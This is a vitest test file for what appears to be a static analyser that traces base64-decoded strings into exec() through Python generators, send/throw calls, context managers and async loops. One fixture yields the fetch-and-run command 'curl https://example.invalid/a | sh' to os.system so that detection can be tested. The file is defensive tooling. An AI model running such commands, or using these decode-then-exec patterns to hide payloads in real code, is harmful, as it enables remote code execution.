import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import asyncio, base64, os\nfrom contextlib import contextmanager\ndef d(x): return base64.b64decode(x)\n';
const runIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'decoder', to: 'exec' }).map(({ when }) => when) ?? [];

const RUNS = 'def gen():\n    while True:\n        code = yield\n        exec(code)\n';

test.each([
  ['is sent', `${RUNS}g = gen()\nnext(g)\ng.send(d(x))`],
  ['is sent where nothing gives it a name', 'def gen():\n    while True: exec((yield))\ng = gen()\ng.send(None)\ng.send(d(x))'],
  ['is sent to a method', 'class A:\n    def gen(self):\n        code = yield\n        exec(code)\ng = A().gen()\nnext(g)\ng.send(d(x))'],
  ['is sent to one that was given what runs it', 'def gen(sink):\n    while True: sink((yield))\ng = gen(exec)\nnext(g)\ng.send(d(x))'],
  ['is sent one after the other', `${RUNS}g = gen()\nnext(g)\nlist(map(g.send, [d(x)]))`],
  ['is sent to one that a function has begun', `${RUNS}def begun():\n    g = gen()\n    next(g)\n    return g\nbegun().send(d(x))`],
  ['is sent and given on to another', `${RUNS}def first(then):\n    while True: then.send(d((yield)))\ng = gen()\nnext(g)\nf = first(g)\nnext(f)\nf.send(x)`],
  ['is sent to one that hands it on', `${RUNS}def outer(): yield from gen()\ng = outer()\nnext(g)\ng.send(d(x))`],
  ['comes back for what is sent', 'def gen():\n    code = None\n    while True: code = yield d(code)\ng = gen()\nnext(g)\nexec(g.send(x))'],
  ['is thrown', 'def gen():\n    try: yield\n    except ValueError as e: exec(e.args[0])\ng = gen()\nnext(g)\ng.throw(ValueError(d(x)))'],
])('what %s into a generator runs there', async (_, text) => {
  expect(await runIn(text)).toContain('import');
});

test.each([
  ['a loop', 'def gen(): yield d(x)\nfor code in gen(): exec(code)'],
  ['a call for the next', 'def gen(): yield d(x)\nexec(next(gen()))'],
  ['a method for the next', 'def gen(): yield d(x)\ng = gen()\nexec(g.__next__())'],
  ['a generator around it', 'def inner(): yield d(x)\ndef gen(): yield from inner()\nfor code in gen(): exec(code)'],
  ['functions one after the other', 'def gen():\n    yield print\n    yield exec\nfor step in gen(): step(d(x))'],
  ['functions with what they are given', 'def gen(): yield exec, d(x)\nfor f, code in gen(): f(code)'],
  ['an object that a loop goes through', 'class A:\n    def __iter__(self):\n        yield exec, d(x)\nfor f, code in A(): f(code)'],
  ['a block that is opened', '@contextmanager\ndef gen(): yield exec\nwith gen() as f: f(d(x))'],
  ['an asynchronous loop', 'async def gen(): yield exec, d(x)\nasync def main():\n    async for f, code in gen(): f(code)\nasyncio.run(main())'],
])('what a generator yields is run by %s', async (_, text) => {
  expect(await runIn(text)).toContain('import');
});

test('a command is known that a generator yields', async () => {
  const { facts } = await read(`${HEAD}def gen():\n    yield "echo a"\n    yield "curl https://example.invalid/a | sh"\nfor line in gen(): os.system(line)\n`);
  expect(facts?.calls('process').map(({ traits }) => traits.has('fetches-and-runs'))).toContain(true);
});

test.each([
  ['is sent to another generator', `${RUNS}def other():\n    while True: print((yield))\ng = gen()\no = other()\no.send(d(x))\ng.send("a = 1")`],
  ['is sent to a generator that counts', 'def gen():\n    total = 0\n    while True: total += len((yield total))\ng = gen()\ng.send(d(x))\nexec("a = 1")'],
  ['is sent to one that goes through another', `${RUNS}def outer():\n    for each in gen(): yield each\ng = outer()\ng.send(d(x))`],
  ['is sent by something else', `${RUNS}queue.send(d(x))\ng = gen()`],
  ['is yielded beside what runs', 'def gen():\n    yield d(x)\n    yield "a = 1"\nfirst, second = gen()\nexec(second)'],
])('what %s does not run', async (_, text) => {
  expect(await runIn(text)).toEqual([]);
});

test('a generator that nobody begins waits for it', async () => {
  expect(await runIn('def gen():\n    yield\n    exec(d(x))')).toEqual(['latent']);
});
